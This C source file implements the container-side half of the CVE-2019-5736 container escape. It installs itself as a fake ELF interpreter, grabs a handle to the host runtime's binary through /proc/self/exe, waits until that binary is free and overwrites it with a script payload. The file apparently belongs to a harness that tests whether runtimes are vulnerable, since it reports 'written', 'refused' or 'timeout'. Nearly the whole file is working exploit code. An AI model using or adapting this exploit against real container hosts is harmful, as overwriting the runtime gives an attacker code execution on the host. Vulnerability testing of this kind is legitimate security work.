/* The image side of CVE-2019-5736, as an ELF interpreter: installed in a container's rootfs at the
 * path of the runtime binary's PT_INTERP (/lib64/ld-linux-x86-64.so.2), it runs when a script
 * starting with `#!/proc/self/exe` makes the kernel execute the runtime's own binary in the
 * container. It keeps an O_PATH fd of /proc/self/exe (the binary the kernel executed), executes
 * itself again as "--write FD" so that the runtime's image is no longer mapped, waits for every
 * runtime process to exit (ETXTBSY until then), reopens the fd for writing and overwrites the
 * binary. It reports to the file named by $ATTACK_REPORT (and stdout):
 *   "exe=<what /proc/self/exe led to> result=written|refused:<errno>|timeout"
 * Without libc (src/trampoline/nolibc.h): a static glibc program cannot be an ELF interpreter.
 * The path it is installed at comes in $ATTACK_SELF; the wait is at most $ATTACK_SECONDS (20). */
#include "trampoline/nolibc.h"

#include <linux/errno.h>
#include <linux/fcntl.h>
#include <linux/time.h>

static const char *env(char **envp, const char *name) {
  size_t len = nolibc_strlen(name);
  for (; *envp; envp++) {
    size_t i = 0;
    while (i < len && (*envp)[i] == name[i])
      i++;
    if (i == len && (*envp)[i] == '=')
      return *envp + len + 1;
  }
  return NULL;
}

static void number(char *buf, long v) {
  char tmp[24];
  int n = 0;
  do
    tmp[n++] = (char)('0' + v % 10);
  while (v /= 10);
  while (n)
    *buf++ = tmp[--n];
  *buf = '\0';
}

static void cat(char *dst, size_t cap, const char *src) {
  size_t n = nolibc_strlen(dst);
  while (*src && n + 1 < cap)
    dst[n++] = *src++;
  dst[n] = '\0';
}

static int report(char **envp, const char *exe, const char *result) {
  char line[512] = "exe=";
  cat(line, sizeof line, exe);
  cat(line, sizeof line, " result=");
  cat(line, sizeof line, result);
  cat(line, sizeof line, "\n");
  const char *path = env(envp, "ATTACK_REPORT");
  if (path) {
    long fd = nolibc_syscall(__NR_openat, AT_FDCWD, (long)path, O_WRONLY | O_CREAT | O_APPEND, 0644, 0);
    if (!NOLIBC_FAILED(fd))
      nolibc_write_all((int)fd, line, nolibc_strlen(line));
  }
  nolibc_write_all(1, line, nolibc_strlen(line));
  return 0;
}

/* Stage 2: fd is the O_PATH fd of the runtime's binary. */
static int overwrite(char **envp, long fd) {
  char proc[64] = "/proc/self/fd/", num[24], exe[256] = "";
  number(num, fd);
  cat(proc, sizeof proc, num);
  long n = nolibc_syscall(__NR_readlinkat, AT_FDCWD, (long)proc, (long)exe, sizeof exe - 1, 0);
  exe[NOLIBC_FAILED(n) ? 0 : n] = '\0';
  const char *secs = env(envp, "ATTACK_SECONDS");
  long tries = (secs ? nolibc_atol(secs) : 20) * 100;
  for (long i = 0; i < tries; i++) {
    long w = nolibc_syscall(__NR_openat, AT_FDCWD, (long)proc, O_WRONLY, 0, 0);
    if (!NOLIBC_FAILED(w)) {
      static const char payload[] = "#!/bin/sh\necho pwned\n";
      long rc = nolibc_write_all((int)w, payload, sizeof payload - 1);
      if (rc == 0)
        return report(envp, exe, "written");
      number(num, -rc);
      char result[48] = "refused:";
      cat(result, sizeof result, num);
      return report(envp, exe, result);
    }
    if (w != -ETXTBSY) {
      number(num, -w);
      char result[48] = "refused:";
      cat(result, sizeof result, num);
      return report(envp, exe, result);
    }
    struct timespec ten_ms = {0, 10 * 1000 * 1000};
    nolibc_syscall(__NR_nanosleep, (long)&ten_ms, 0, 0, 0, 0);
  }
  return report(envp, exe, "timeout");
}

int nolibc_main(int argc, char **argv, char **envp) {
  if (argc == 3 && nolibc_streq(argv[1], "--write"))
    return overwrite(envp, nolibc_atol(argv[2]));
  /* Stage 1: running as the interpreter of whatever binary /proc/self/exe was. */
  long fd = nolibc_syscall(__NR_openat, AT_FDCWD, (long)"/proc/self/exe", O_PATH, 0, 0);
  if (NOLIBC_FAILED(fd))
    return report(envp, "?", "no-exe"), 1;
  char num[24];
  number(num, fd);
  const char *self = env(envp, "ATTACK_SELF");
  char *args[] = {"fake-loader", "--write", num, NULL};
  nolibc_syscall(__NR_execve, (long)(self ? self : "/lib64/ld-linux-x86-64.so.2"), (long)args, (long)envp, 0, 0);
  return report(envp, "?", "exec-failed"), 1;
}
